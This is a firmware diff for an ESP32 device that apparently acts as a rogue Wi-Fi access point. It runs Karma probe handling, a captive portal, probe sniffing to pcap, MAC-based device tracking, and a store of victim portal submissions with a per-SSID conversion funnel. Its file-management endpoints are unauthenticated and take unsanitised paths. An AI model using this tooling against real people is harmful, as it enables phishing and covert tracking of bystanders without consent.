+    IPAddress myIP = WiFi.softAPIP();
+    LOG_D("AP IP address: %s", myIP.toString().c_str());
+
+    snprintf(portalLocation, sizeof(portalLocation), "http://%s/", myIP.toString().c_str());
+
+    if (!dnsStart(myIP)) {
+        LOG_W("Failed to start DNS responder");
+    }
+    setupWebServerRoutes();
+    assetCacheWarm();
+    server.begin();
+    isPortalRunning = true;
+    LOG_D("HTTP server started, captive portal active at %s", portalLocation);
+
+    resetStations();
+    netStatus.portalRunning = true;
+    netStatus.ip = (uint32_t)myIP;
+    strncpy(netStatus.currentSSID, cleanSSID.c_str(), sizeof(netStatus.currentSSID) - 1);
+    publishNetStatus();
+    postNetEvent(NET_EVENT_PORTAL_STARTED);
+}
+
+void netStopCaptivePortal() {
+    if (isPortalRunning) {
+        server.close();
+        dnsStop();
+        assetCacheClear();
+        WiFi.softAPdisconnect(true);
+        isPortalRunning = false;
+        LOG_D("Captive portal stopped");
+        WiFi.mode(WIFI_STA);
+        netStatus.portalRunning = false;
+        netStatus.clientCount = 0;
+        for (int i = 0; i < maxStations; i++) stations[i].connected = false;
+        memset(netStatus.currentSSID, 0, sizeof(netStatus.currentSSID));
+        publishNetStatus();
+    }
+}
+
+void drawPortalScreen() {
+    M5Dial.Display.clear();
+    M5Dial.Display.setTextSize(defaultTextSize);
+    M5Dial.Display.setTextColor(WHITE, BLACK);
+    String connectText = "Connect to:";
+    String ipText = IPAddress(readNetStatus().ip).toString() + "/logs";
+    int16_t connectTextX = (M5Dial.Display.width() - M5Dial.Display.textWidth(connectText)) / 2;
+    int16_t ipTextY1 = M5Dial.Display.height() / 2 - 40;
+    M5Dial.Display.setCursor(connectTextX, ipTextY1);
+    M5Dial.Display.println(connectText);
+
+    int16_t ipTextX2 = (M5Dial.Display.width() - M5Dial.Display.textWidth(ipText)) / 2;
+    int16_t ipTextY2 = ipTextY1 + 30;
+    M5Dial.Display.setCursor(ipTextX2, ipTextY2);
+    M5Dial.Display.println(ipText);
+    drawPortalClients(readNetStatus().clientCount);
+}
+
+void drawPortalClients(int clientCount) {
+    String clientsText = "Clients: " + String(clientCount);
+
+    int16_t clientsTextX = (M5Dial.Display.width() - M5Dial.Display.textWidth(clientsText)) / 2;
+    int16_t clientsTextY = M5Dial.Display.height() / 2 + 30;
+
+    M5Dial.Display.fillRect(0, clientsTextY - 5, M5Dial.Display.width(), M5Dial.Display.fontHeight() + 10, TFT_BLACK);
+    M5Dial.Display.setCursor(clientsTextX, clientsTextY);
+    M5Dial.Display.setTextSize(defaultTextSize);
+    M5Dial.Display.setTextColor(WHITE, BLACK);
+    M5Dial.Display.println(clientsText);
+    drawRing(TFT_BLUE);
+    portalShownClients = clientCount;
+}
+
+void handlePortalScreen() {
+    // Only touch the display when the station table actually changed
+    NetStatus status = readNetStatus();
+    if (debugMode && status.portalRunning && status.clientCount != portalShownClients) {
+        drawPortalClients(status.clientCount);
+    }
+
+    if (M5Dial.BtnA.wasPressed()) {
+        switchScreen(MENU_SCREEN);
+    }
+}
+
+// Chunked responses (lib/core/src/chunked_writer.h). Headers go out on
+// construction and the body streams to the socket from a fixed buffer, so
+// handlers never build it in a heap String.
+void sendServerChunk(void*, const char* data, size_t length) {
+    server.sendContent(data, length);
+}
+
+template <typename Writer>
+class ChunkedResponse : public Writer {
+public:
+    explicit ChunkedResponse(int code, const char* contentType = "application/json")
+        : Writer(sendServerChunk, nullptr) {
+        server.setContentLength(CONTENT_LENGTH_UNKNOWN);
+        server.send(code, contentType, "");
+    }
+};
+typedef ChunkedResponse<JsonWriter> JsonResponse;
+typedef ChunkedResponse<ChunkedWriter> TextResponse;
+
+// Fixed JSON bodies go out straight from flash without a String copy
+void sendJsonLiteral(int code, const char* body) {
+    server.send_P(code, "application/json", body, strlen(body));
+}
+
+void handleUploadPage() {
+    // Hardcode the entire HTML as a raw string literal
+    // (Requires C++11 or later)
+    const char htmlPage[] = R"HTML(
+<!DOCTYPE html>
+<html lang="en">
+<head>
+    <meta charset="UTF-8">
+    <meta name="viewport" content="width=device-width, initial-scale=1.0">
+    <title>Device Control Panel</title>
+    <style>
+        body {
+            font-family: Arial, sans-serif;
+            background-color: #f4f4f4;
+            margin: 0;
+            padding: 20px;
+        }
+        .container {
+            max-width: 800px;
+            margin: 0 auto;
+            background: white;
+            padding: 20px;
+            border-radius: 8px;
+            box-shadow: 0 0 10px rgba(0,0,0,0.1);
+        }
+        h1 {
+            color: #333;
+            text-align: center;
+        }
+        .section {
+            margin-bottom: 30px;
+        }
+        .file-upload {
+            border: 2px dashed #ccc;
+            padding: 20px;
+            text-align: center;
+            margin-bottom: 20px;
+        }
+        .controls {
+            display: grid;
+            grid-template-columns: repeat(auto-fit, minmax(150px, 1fr));
+            gap: 10px;
+        }
+        button {
+            background-color: #4CAF50;
+            color: white;
+            border: none;
+            padding: 15px;
+            border-radius: 5px;
+            cursor: pointer;
+            font-size: 16px;
+        }
+        button:hover {
+            background-color: #45a049;
+        }
+        .file-list {
+            margin-top: 20px;
+        }
+        .file-item {
+            display: flex;
+            justify-content: space-between;
+            padding: 10px;
+            border-bottom: 1px solid #eee;
+        }
+        .status {
+            margin-top: 20px;
+            padding: 15px;
+            background-color: #f8f8f8;
+            border-radius: 5px;
+        }
+    </style>
+</head>
+<body>
+    <div class="container">
+        <h1>Device Control Panel</h1>
+        
+        <div class="section">
+            <h2>File Management</h2>
+            <div class="file-upload">
+                <input type="file" id="fileInput" multiple>
+                <button onclick="uploadFiles()">Upload Files</button>
+            </div>
+            <div class="file-list" id="fileList">
+                <!-- Files will be listed here -->
+            </div>
+        </div>
+
+    </div>
+
+    <script>
+        async function uploadFiles() {
+            const fileInput = document.getElementById('fileInput');
+            const files = fileInput.files;
+            const formData = new FormData();
+            
+            for (let i = 0; i < files.length; i++) {
+                formData.append('files', files[i]);
+            }
+
+            try {
+                const response = await fetch('/upload', {
+                    method: 'POST',
+                    body: formData
+                });
+                
+                const result = await response.json();
+                if (result.success) {
+                    updateFileList();
+                    showStatus('Files uploaded successfully');
+                } else {
+                    showStatus('Error uploading files');
+                }
+            } catch (error) {
+                showStatus('Upload failed: ' + error.message);
+            }
+        }
+
+        async function updateFileList() {
+            try {
+                const response = await fetch('/files');
+                const files = await response.json();
+                const fileList = document.getElementById('fileList');
+                fileList.innerHTML = files.map(file => `
+                    <div class="file-item">
+                        <span>${file.name}</span>
+                        <button onclick="deleteFile('${file.name}')">Delete</button>
+                    </div>
+                `).join('');
+            } catch (error) {
+                showStatus('Error fetching file list');
+            }
+        }
+
+        async function deleteFile(filename) {
+            try {
+                // Call the query-param-based endpoint
+                const response = await fetch(`/deleteFile?filename=${encodeURIComponent(filename)}`, {
+                method: 'DELETE'
+                });
+                const result = await response.json();
+                if (result.success) {
+                updateFileList();
+                showStatus('File deleted successfully');
+                } else {
+                showStatus('Error deleting file');
+                }
+            } catch (error) {
+                showStatus('Delete failed: ' + error.message);
+            }
+        }
+
+        async function sendCommand(command) {
+            try {
+                const response = await fetch(`/command/${command}`, {
+                    method: 'POST'
+                });
+                const result = await response.json();
+                showStatus(result.message || 'Command executed');
+            } catch (error) {
+                showStatus('Command failed: ' + error.message);
+            }
+        }
+
+        function showStatus(message) {
+            const status = document.getElementById('statusMessage');
+            if (!status) {
+                // If there's no status element in the HTML, you can do something else
+                console.log('STATUS:', message);
+                return;
+            }
+            status.textContent = message;
+            setTimeout(() => status.textContent = '', 3000);
+        }
+
+        // Initial file list load
+        updateFileList();
+    </script>
+</body>
+</html>
+)HTML";
+
+    // Send the page to the client
+    server.send(200, "text/html", htmlPage);
+    noteStationActivity(sizeof(htmlPage) - 1);
+}
+
+// Probe pcap download; ?file=previous fetches the rotated file
+void handlePcap() {
+    const char* path = server.arg("file") == "previous" ? pcapPreviousPath : pcapPath;
+    File file = SPIFFS.open(path, "r");
+    if (!file) {
+        server.send(404, "text/plain", "No capture recorded.");
+        return;
+    }
+    server.sendHeader("Content-Disposition", String("attachment; filename=\"") + (path + 1) + "\"");
+    noteStationActivity(server.streamFile(file, "application/vnd.tcpdump.pcap"));
+    file.close();
+}
+
+// Logs endpoint
+void handleLogs() {
+    File logFile = SPIFFS.open("/log.txt", "r");
+    if (logFile) {
+        noteStationActivity(server.streamFile(logFile, "text/plain"));
+        logFile.close();
+    } else {
+        server.send(404, "text/plain", "No logs found.");
+    }
+}
+
+// Enhanced file upload handler with directory support
+void handleUploadDone() {
+    sendJsonLiteral(200, R"({"success":true})");
+}
+
+void handleUploadData() {
+    static File uploadFile;
+    HTTPUpload& upload = server.upload();
+    
+    if (upload.status == UPLOAD_FILE_START) {
+        String filename = upload.filename;
+        if (!filename.startsWith("/")) {
+            filename = "/" + filename;
+        }
+        
+        // Create directories if needed
+        int lastSlash = filename.lastIndexOf('/');
+        if (lastSlash > 0) {
+            String dirPath = filename.substring(0, lastSlash);
+            if (!SPIFFS.exists(dirPath)) {
+                SPIFFS.mkdir(dirPath);
+                LOG_D("Created directory: %s", dirPath.c_str());
+            }
+        }
+        
+        assetCacheInvalidate(filename.c_str());
+        uploadFile = SPIFFS.open(filename, "w");
+        if (!uploadFile) {
+            LOG_D("Failed to create file: %s", filename.c_str());
+            return;
+        }
+    } else if (upload.status == UPLOAD_FILE_WRITE) {
+        if (uploadFile) {
+            uploadFile.write(upload.buf, upload.currentSize);
+        }
+    } else if (upload.status == UPLOAD_FILE_END) {
+        if (uploadFile) {
+            uploadFile.close();
+            LOG_D("File upload complete: %s", upload.filename.c_str());
+        }
+    }
+}
+
+// File list handler
+void handleFileList() {
+    File root = SPIFFS.open("/");
+    File file = root.openNextFile();
+    JsonResponse json(200);
+    json.beginArray();
+
+    while (file) {
+        if (!file.isDirectory()) {
+            const char* fileName = file.name();
+            if (fileName[0] == '/') {
+                fileName++;
+            }
+            json.beginObject();
+            json.field("name", fileName);
+            json.field("size", file.size());
+            json.endObject();
+        }
+        file = root.openNextFile();
+    }
+
+    json.endArray();
+    noteStationActivity(json.end());
+}
+
+// Station table for the current AP session
+void handleStations() {
+    JsonResponse json(200);
+    json.beginArray();
+    unsigned long now = millis();
+    for (int i = 0; i < maxStations; i++) {
+        const Station& station = stations[i];
+        if (!station.inUse) continue;
+        char mac[18];
+        snprintf(mac, sizeof(mac), "%02x:%02x:%02x:%02x:%02x:%02x",
+                 station.mac[0], station.mac[1], station.mac[2],
+                 station.mac[3], station.mac[4], station.mac[5]);
+        char ip[16];
+        snprintf(ip, sizeof(ip), "%u.%u.%u.%u",
+                 (unsigned)(station.ip & 0xff), (unsigned)((station.ip >> 8) & 0xff),
+                 (unsigned)((station.ip >> 16) & 0xff), (unsigned)(station.ip >> 24));
+        json.beginObject();
+        json.field("mac", mac);
+        json.field("ip", ip);
+        json.field("connected", station.connected);
+        json.field("associatedMsAgo", now - station.associatedAt);
+        json.field("lastActivityMsAgo", now - station.lastActivity);
+        json.field("bytesServed", station.bytesServed);
+        json.field("captureSubmitted", station.captureSubmitted);
+        if (station.firstPageAt != 0) {
+            json.field("timeToPortalMs", station.firstPageAt - station.associatedAt);
+        }
+        json.endObject();
+    }
+
+    json.endArray();
+    json.end();
+}
+
+// File delete handler
+void handleDeleteFile() {
+    // Check if we have a "filename" argument
+    if (!server.hasArg("filename")) {
+        sendJsonLiteral(400, R"({"success":false,"error":"No filename argument"})");
+        return;
+    }
+    
+    // Grab the filename argument, e.g. "myFile.txt"
+    String fileArg = server.arg("filename");
+    // Convert it to an absolute path, e.g. "/myFile.txt"
+    const char* filePath = requestArena.printf("/%s", fileArg.c_str());
+    if (!filePath) {
+        sendJsonLiteral(400, R"({"success":false,"error":"Filename too long"})");
+        return;
+    }
+    
+    // Attempt to delete from SPIFFS
+    assetCacheInvalidate(filePath);
+    if (SPIFFS.remove(filePath)) {
+        sendJsonLiteral(200, R"({"success":true})");
+        LOG_D("Deleted file: %s", filePath);
+    } else {
+        sendJsonLiteral(404, R"({"success":false})");
+        LOG_D("Failed to delete file: %s", filePath);
+    }
+}
+
+// Metrics
+void writeMetricHeader(ChunkedWriter& out, const char* name, MetricType type) {
+    char line[96];
+    snprintf(line, sizeof(line), "# TYPE %s %s\n", name, metricTypeNames[type]);
+    out.raw(line);
+}
+
+void Counter::write(ChunkedWriter& out) const {
+    char line[96];
+    writeMetricHeader(out, name, type);
+    snprintf(line, sizeof(line), "%s %u\n", name, (unsigned)get());
+    out.raw(line);
+}
+
+void Gauge::write(ChunkedWriter& out) const {
+    char line[96];
+    writeMetricHeader(out, name, type);
+    snprintf(line, sizeof(line), "%s %d\n", name, (int)get());
+    out.raw(line);
+}
+
+void Histogram::write(ChunkedWriter& out) const {
+    char line[96];
+    writeMetricHeader(out, name, type);
+    uint32_t cumulative = 0;
+    for (int i = 0; i <= histogramBucketCount; i++) {
+        cumulative += buckets[i].load(std::memory_order_relaxed);
+        if (i < histogramBucketCount) {
+            snprintf(line, sizeof(line), "%s_bucket{le=\"%u\"} %u\n", name, (unsigned)histogramBoundsUs[i], (unsigned)cumulative);
+        } else {
+            snprintf(line, sizeof(line), "%s_bucket{le=\"+Inf\"} %u\n", name, (unsigned)cumulative);
+        }
+        out.raw(line);
     }
-    file.close();
-    if (debugMode && verboseDebug) {
-        Serial.println("Selected SSID saved: " + selectedSSID);
+    snprintf(line, sizeof(line), "%s_sum %u\n%s_count %u\n", name, (unsigned)sumUs.load(std::memory_order_relaxed),
+             name, (unsigned)count.load(std::memory_order_relaxed));
+    out.raw(line);
+}
+
+// Values owned by other subsystems, read when /metrics is scraped
+struct MetricSource {
+    const char* name;
+    MetricType type;
+    uint64_t (*read)();       // 64-bit so microsecond totals don't wrap
+};
+
+const MetricSource metricSources[] = {
+    { "heap_free_bytes",                   METRIC_GAUGE,   []() -> uint64_t { return ESP.getFreeHeap(); } },
+    { "heap_min_free_bytes",               METRIC_GAUGE,   []() -> uint64_t { return ESP.getMinFreeHeap(); } },
+    { "heap_largest_free_block_bytes",     METRIC_GAUGE,   []() -> uint64_t { return heap_caps_get_largest_free_block(MALLOC_CAP_8BIT); } },
+    { "heap_min_largest_free_block_bytes", METRIC_GAUGE,   []() -> uint64_t { return heapMinLargestBlock; } },
+    { "heap_allocated_blocks",             METRIC_GAUGE,   []() -> uint64_t {
+        multi_heap_info_t info;
+        heap_caps_get_info(&info, MALLOC_CAP_8BIT);
+        return info.allocated_blocks;
+    } },
+    { "heap_size_bytes",                   METRIC_GAUGE,   []() -> uint64_t { return ESP.getHeapSize(); } },
+    { "psram_free_bytes",                  METRIC_GAUGE,   []() -> uint64_t { return ESP.getFreePsram(); } },
+    { "psram_size_bytes",                  METRIC_GAUGE,   []() -> uint64_t { return ESP.getPsramSize(); } },
+    { "heap_alarm",                        METRIC_GAUGE,   []() -> uint64_t { return heapFreeAlarm || heapBlockAlarm; } },
+    { "heap_alarms_total",                 METRIC_COUNTER, []() -> uint64_t { return heapAlarmCount; } },
+    { "karma_probes_total",                METRIC_COUNTER, []() -> uint64_t { return netStatus.probesSeen; } },
+    { "karma_probes_dropped_total",        METRIC_COUNTER, []() -> uint64_t { return probeQueue.dropped.load(std::memory_order_relaxed); } },
+    { "portal_stations",                   METRIC_GAUGE,   []() -> uint64_t { return netStatus.clientCount; } },
+    { "settings_changes_total",            METRIC_COUNTER, []() -> uint64_t { return settingsStats.changes; } },
+    { "settings_commits_total",            METRIC_COUNTER, []() -> uint64_t { return settingsStats.commits; } },
+    { "nvs_writes_total",                  METRIC_COUNTER, []() -> uint64_t { return settingsStats.nvsWrites; } },
+    { "asset_cache_bytes",                 METRIC_GAUGE,   []() -> uint64_t { return assetCacheBytes; } },
+    { "asset_cache_budget_bytes",          METRIC_GAUGE,   []() -> uint64_t { return assetCacheBudget(); } },
+    { "asset_cache_hits_total",            METRIC_COUNTER, []() -> uint64_t { return assetCacheStats.hits; } },
+    { "asset_cache_misses_total",          METRIC_COUNTER, []() -> uint64_t { return assetCacheStats.misses; } },
+    { "asset_cache_evictions_total",       METRIC_COUNTER, []() -> uint64_t { return assetCacheStats.evictions; } },
+    { "asset_cache_served_bytes_total",    METRIC_COUNTER, []() -> uint64_t { return assetCacheStats.bytesFromCache; } },
+    { "asset_flash_served_bytes_total",    METRIC_COUNTER, []() -> uint64_t { return assetCacheStats.bytesFromFlash; } },
+    { "asset_cache_response_us_total",     METRIC_COUNTER, []() -> uint64_t { return assetCacheStats.cacheResponseUs; } },
+    { "asset_flash_response_us_total",     METRIC_COUNTER, []() -> uint64_t { return assetCacheStats.flashResponseUs; } },
+    { "frame_arena_high_water_bytes",      METRIC_GAUGE,   []() -> uint64_t { return frameArena.highWater; } },
+    { "frame_arena_overflows_total",       METRIC_COUNTER, []() -> uint64_t { return frameArena.overflows; } },
+    { "request_arena_high_water_bytes",    METRIC_GAUGE,   []() -> uint64_t { return requestArena.highWater; } },
+    { "request_arena_overflows_total",     METRIC_COUNTER, []() -> uint64_t { return requestArena.overflows; } },
+    { "sniffer_frames_total",              METRIC_COUNTER, []() -> uint64_t { return sniffer.stats.seen.load(std::memory_order_relaxed); } },
+    { "sniffer_rejected_total",            METRIC_COUNTER, []() -> uint64_t { return sniffer.stats.rejected.load(std::memory_order_relaxed); } },
+    { "sniffer_malformed_total",           METRIC_COUNTER, []() -> uint64_t { return sniffer.stats.malformed.load(std::memory_order_relaxed); } },
+    { "sniffer_accepted_total",            METRIC_COUNTER, []() -> uint64_t { return sniffer.stats.accepted.load(std::memory_order_relaxed); } },
+    { "sniffer_repeats_total",             METRIC_COUNTER, []() -> uint64_t { return sniffer.stats.repeats.load(std::memory_order_relaxed); } },
+    { "whitelist_rules",                   METRIC_GAUGE,   []() -> uint64_t { return whitelist.ruleCount; } },
+    { "engagement_active",                 METRIC_GAUGE,   []() -> uint64_t { return engagement.active; } },
+    { "engagement_scope_rules",            METRIC_GAUGE,   []() -> uint64_t { return engagement.scope.ruleCount; } },
+    { "scope_log_dropped_total",           METRIC_COUNTER, []() -> uint64_t { return scopeLogQueue.dropped.load(std::memory_order_relaxed); } },
+    { "devices_tracked",                   METRIC_GAUGE,   []() -> uint64_t { return deviceTable.count; } },
+    { "devices_evicted_total",             METRIC_COUNTER, []() -> uint64_t { return deviceTable.evicted; } },
+    { "pcap_frames_total",                 METRIC_COUNTER, []() -> uint64_t { return pcapBuffer.stats.frames.load(std::memory_order_relaxed); } },
+    { "pcap_dropped_total",                METRIC_COUNTER, []() -> uint64_t { return pcapBuffer.stats.dropped.load(std::memory_order_relaxed); } },
+    { "pcap_written_bytes_total",          METRIC_COUNTER, []() -> uint64_t { return pcapBuffer.stats.bytesWritten; } },
+    { "pcap_rotations_total",              METRIC_COUNTER, []() -> uint64_t { return pcapBuffer.stats.rotations; } },
+    { "pcap_write_errors_total",           METRIC_COUNTER, []() -> uint64_t { return pcapBuffer.stats.writeErrors; } },
+};
+const int metricSourceCount = sizeof(metricSources) / sizeof(metricSources[0]);
+
+// Prometheus text exposition of the heap and scheduler counters
+void writeMetric(ChunkedWriter& out, const char* name, const char* type, uint64_t value) {
+    char line[96];
+    snprintf(line, sizeof(line), "# TYPE %s %s\n%s %llu\n", name, type, name, (unsigned long long)value);
+    out.raw(line);
+}
+
+void writeServiceMetrics(ChunkedWriter& out, const Service* list, int count) {
+    char line[96];
+    for (int i = 0; i < count; i++) {
+        const Service& service = list[i];
+        snprintf(line, sizeof(line), "service_runs_total{service=\"%s\"} %u\n", service.name, (unsigned)service.runs);
+        out.raw(line);
+        snprintf(line, sizeof(line), "service_overruns_total{service=\"%s\"} %u\n", service.name, (unsigned)service.overruns);
+        out.raw(line);
+        snprintf(line, sizeof(line), "service_global_heap_delta_bytes{service=\"%s\"} %d\n", service.name,
+                 (int)service.globalHeapDelta);
+        out.raw(line);
+        snprintf(line, sizeof(line), "service_global_heap_drop_runs_total{service=\"%s\"} %u\n", service.name,
+                 (unsigned)service.globalHeapDrops);
+        out.raw(line);
     }
 }
 
-String cleanSSID(String ssid) {
-    ssid.trim();
-    int rIndex = ssid.indexOf('\r');
-    if (rIndex != -1) ssid.remove(rIndex);
-    int nIndex = ssid.indexOf('\n');
-    if (nIndex != -1) ssid.remove(nIndex);
-    return ssid;
+void writeScopeMetrics(ChunkedWriter& out) {
+    char line[96];
+    out.raw("# TYPE scope_decisions_total counter\n");
+    for (int i = 0; i < SCOPE_VERDICT_COUNT; i++) {
+        snprintf(line, sizeof(line), "scope_decisions_total{verdict=\"%s\"} %u\n", scopeVerdictNames[i],
+                 (unsigned)scopeVerdictCounts[i]);
+        out.raw(line);
+    }
 }
 
-// Captive Portal
-void startCaptivePortal() {
-    if (debugMode && verboseDebug) {
-        Serial.println("Starting Captive Portal...");
+void writeChannelMetrics(ChunkedWriter& out) {
+    char line[96];
+    out.raw("# TYPE channel_probes_total counter\n# TYPE channel_dwell_ms_total counter\n");
+    out.raw("# TYPE channel_yield_per_second gauge\n");
+    for (int i = 0; i < hopChannelCount; i++) {
+        const ChannelStats& stats = hopper.stats[i];
+        snprintf(line, sizeof(line), "channel_probes_total{channel=\"%d\"} %u\n", i + 1, (unsigned)stats.probes);
+        out.raw(line);
+        snprintf(line, sizeof(line), "channel_dwell_ms_total{channel=\"%d\"} %u\n", i + 1, (unsigned)stats.dwellMs);
+        out.raw(line);
+        snprintf(line, sizeof(line), "channel_yield_per_second{channel=\"%d\"} %u.%02u\n", i + 1,
+                 (unsigned)(stats.yieldEwma / 16), (unsigned)(stats.yieldEwma % 16 * 100 / 16));
+        out.raw(line);
     }
+}
 
-    // Configure WiFi channel and SSID
-    WiFi.mode(WIFI_AP_STA);
-    WiFi.setSleep(false); // Disable sleep for better reliability
-    WiFi.setTxPower(WIFI_POWER_19_5dBm); // Max power
-    
-    // Clean SSID to ASCII only
-    String cleanSSID = ssid;
-    cleanSSID.replace(" ", "_");
-    cleanSSID.replace("\"", "");
-    cleanSSID.replace("'", "");
-    cleanSSID.replace("\\", "");
-    cleanSSID.replace("/", "");
-    
-    // Start AP on channel 6 (commonly supported)
-    if (!WiFi.softAP(cleanSSID.c_str(), password, 6, 0, 4)) {
-        if (debugMode && verboseDebug) {
-            Serial.println("Failed to start AP, retrying...");
+void handleMetrics() {
+    TextResponse out(200, "text/plain; version=0.0.4");
+    for (int i = 0; i < metricSourceCount; i++) {
+        writeMetric(out, metricSources[i].name, metricTypeNames[metricSources[i].type], metricSources[i].read());
+    }
+    for (const Metric* metric = metricsRegistry; metric; metric = metric->next) {
+        metric->write(out);
+    }
+    out.raw("# TYPE service_runs_total counter\n# TYPE service_overruns_total counter\n");
+    out.raw("# TYPE service_global_heap_delta_bytes gauge\n# TYPE service_global_heap_drop_runs_total counter\n");
+    writeServiceMetrics(out, services, serviceCount);
+    writeServiceMetrics(out, netServices, netServiceCount);
+    writeChannelMetrics(out);
+    writeScopeMetrics(out);
+    noteStationActivity(out.end());
+}
+
+// Boot timeline recorded by bootMark()
+void handleBootTimeline() {
+    JsonResponse json(200);
+    json.beginArray();
+    for (int i = 0; i < bootMarkCount; i++) {
+        json.beginObject();
+        json.field("stage", bootTimeline[i].name);
+        json.field("us", bootTimeline[i].us);
+        json.endObject();
+    }
+    json.endArray();
+    noteStationActivity(json.end());
+}
+
+// Trace dump. Recording pauses while the ring is read; scopes already open
+// still land, so the oldest events can be overwritten mid-dump.
+struct TraceDump {
+    uint32_t first;
+    uint32_t count;
+    uint32_t recorded;
+    bool wasEnabled;
+};
+
+const uint32_t traceThreadCount = 2;
+const char* const traceThreadNames[traceThreadCount] = { "core 0 (net)", "core 1 (ui)" };
+
+TraceDump beginTraceDump() {
+    TraceDump dump;
+    dump.wasEnabled = tracingEnabled;
+    tracingEnabled = false;
+    uint32_t head = traceHead.load(std::memory_order_relaxed);
+    dump.recorded = head - traceStart.load(std::memory_order_relaxed);
+    dump.count = min(dump.recorded, traceEventCount);
+    dump.first = head - dump.count;
+    return dump;
+}
+
+void endTraceDump(const TraceDump& dump) {
+    if (dump.wasEnabled) tracingEnabled = true;
+}
+
+// One trace-event object per line: thread names first, then events oldest first
+void formatTraceLine(const TraceDump& dump, uint32_t line, char* out, size_t size) {
+    if (line < traceThreadCount) {
+        snprintf(out, size, "{\"name\":\"thread_name\",\"ph\":\"M\",\"pid\":1,\"tid\":%u,\"args\":{\"name\":\"%s\"}}",
+                 (unsigned)line, traceThreadNames[line]);
+        return;
+    }
+    const TraceEvent& event = traceEvents[(dump.first + line - traceThreadCount) % traceEventCount];
+    snprintf(out, size, "{\"name\":\"%s\",\"cat\":\"%s\",\"ph\":\"X\",\"ts\":%u,\"dur\":%u,\"pid\":1,\"tid\":%u}",
+             event.name ? event.name : "?", traceCategoryNames[event.category],
+             (unsigned)event.startUs, (unsigned)event.durationUs, (unsigned)event.core);
+}
+
+void handleTrace() {
+    TraceDump dump = beginTraceDump();
+    char line[160];
+    JsonResponse json(200);
+    json.beginObject();
+    json.field("displayTimeUnit", "ms");
+    json.key("otherData");
+    json.beginObject();
+    json.field("recorded", dump.recorded);
+    json.field("tracing", dump.wasEnabled);
+    json.endObject();
+    json.key("traceEvents");
+    json.beginArray();
+    for (uint32_t i = 0; i < traceThreadCount + dump.count; i++) {
+        formatTraceLine(dump, i, line, sizeof(line));
+        json.rawMember();
+        json.raw(line);
+    }
+    json.endArray();
+    json.endObject();
+    endTraceDump(dump);
+    noteStationActivity(json.end());
+}
+
+// Runs on the log task, which owns Serial output
+void writeTraceToSerial() {
+    TraceDump dump = beginTraceDump();
+    char line[160];
+    uint32_t total = traceThreadCount + dump.count;
+    Serial.println("{\"displayTimeUnit\":\"ms\",\"traceEvents\":[");
+    for (uint32_t i = 0; i < total; i++) {
+        formatTraceLine(dump, i, line, sizeof(line));
+        Serial.print(line);
+        Serial.println(i + 1 < total ? "," : "");
+    }
+    Serial.println("]}");
+    endTraceDump(dump);
+}
+
+// Device table, most recently heard first, and SSID demand by device count
+void handleDevices() {
+    char text[18];
+    JsonResponse json(200);
+    json.beginObject();
+    json.key("devices");
+    json.beginArray();
+    for (int16_t device = deviceTable.lruHead; device >= 0; device = deviceTable.devices[device].next) {
+        const DeviceRecord& record = deviceTable.devices[device];
+        json.beginObject();
+        snprintf(text, sizeof(text), "%02x:%02x:%02x:%02x:%02x:%02x",
+                 record.mac[0], record.mac[1], record.mac[2], record.mac[3], record.mac[4], record.mac[5]);
+        json.field("mac", text);
+        json.field("randomized", (record.mac[0] & 0x02) != 0);
+        snprintf(text, sizeof(text), "%08x", (unsigned)record.fingerprint);
+        json.field("fingerprint", text);
+        json.field("probes", record.probes);
+        json.field("rssi", record.rssiEwma / 16);
+        json.field("firstSeenMsAgo", millis() - record.firstSeen);
+        json.field("lastSeenMsAgo", millis() - record.lastSeen);
+        json.key("ssids");
+        json.beginArray();
+        for (int i = 0; i < deviceTable.ssidCount; i++) {
+            if (record.ssids & (1ULL << i)) json.value(deviceTable.ssids[i].ssid);
         }
-        delay(500);
-        WiFi.mode(WIFI_STA);
-        delay(500);
-        WiFi.mode(WIFI_AP_STA);
-        if (!WiFi.softAP(cleanSSID.c_str(), password, 6, 0, 4)) {
-            if (debugMode && verboseDebug) {
-                Serial.println("Failed to start AP after retry. Check config.");
+        json.endArray();
+        json.endObject();
+    }
+    json.endArray();
+    json.key("ssids");
+    json.beginArray();
+    for (int i = 0; i < deviceTable.ssidCount; i++) {
+        json.beginObject();
+        json.field("ssid", deviceTable.ssids[i].ssid);
+        json.field("devices", deviceTable.ssids[i].devices);
+        json.field("probes", deviceTable.ssids[i].probes);
+        json.endObject();
+    }
+    json.endArray();
+    json.field("evicted", deviceTable.evicted);
+    json.field("untrackedSSIDProbes", deviceTable.untrackedProbes);
+    json.endObject();
+    noteStationActivity(json.end());
+}
+
+// Per-SSID conversion funnel
+void handleSSIDStats() {
+    JsonResponse json(200);
+    json.beginArray();
+    for (int i = 0; i < maxSSIDStats; i++) {
+        const SSIDStats& stats = ssidStats[i];
+        if (stats.ssid[0] == '\0') continue;
+        json.beginObject();
+        json.field("ssid", stats.ssid);
+        json.field("probes", stats.probes);
+        json.field("associations", stats.associations);
+        json.field("submissions", stats.submissions);
+        json.field("lastSeenMsAgo", millis() - stats.lastSeen);
+        json.endObject();
+    }
+    json.endArray();
+    noteStationActivity(json.end());
+}
+
+// Capture Store
+// Portal submissions are parsed once at ingest. Each one becomes a fixed
+// CaptureRecord in /captures.bin, after a versioned header; values that
+// repeat across submissions are interned in /capture_strings.txt (one per
+// line, id = line number) and the remaining fields are kept as compact JSON
+// in /captures.dat. Records are appended in time order, so "since" queries
+// are a seek, and session/SSID columns are kept in RAM as the secondary
+// indexes. The record layout is in lib/core/src/capture_record.h.
+const char* captureRecordsPath = "/captures.bin";
+const char* capturePayloadPath = "/captures.dat";
+const char* captureStringsPath = "/capture_strings.txt";
+const int maxCaptures = 4096;
+
+// Submission keys whose values are interned rather than stored per record
+const char* const capturedInternedKeys[] = { "userAgent", "platform", "language", "timezone" };
+const int capturedInternedKeyCount = sizeof(capturedInternedKeys) / sizeof(capturedInternedKeys[0]);
+
+enum CaptureResult : uint8_t { CAPTURE_STORED, CAPTURE_DUPLICATE, CAPTURE_REJECTED };
+
+struct CaptureStats {
+    uint32_t stored;
+    uint32_t duplicates;
+    uint32_t rejected;
+};
+
+bool captureStoreLoaded = false;
+uint16_t captureBootId = 0;
+size_t captureBootStart = 0;             // first record of this boot
+FixedColumn<uint32_t, maxCaptures> captureSessions;   // per record (lib/core/src/fixed_alloc.h)
+FixedColumn<uint16_t, maxCaptures> captureSSIDs;
+std::vector<uint32_t> captureStringHashes;
+std::vector<uint32_t> captureStringOffsets;
+CaptureStats captureStats = {};
+
+// Reads a string table entry into buffer; returns false if it does not fit
+bool readCaptureString(File& strings, uint16_t id, char* buffer, size_t bufferSize) {
+    if (id >= captureStringOffsets.size()) return false;
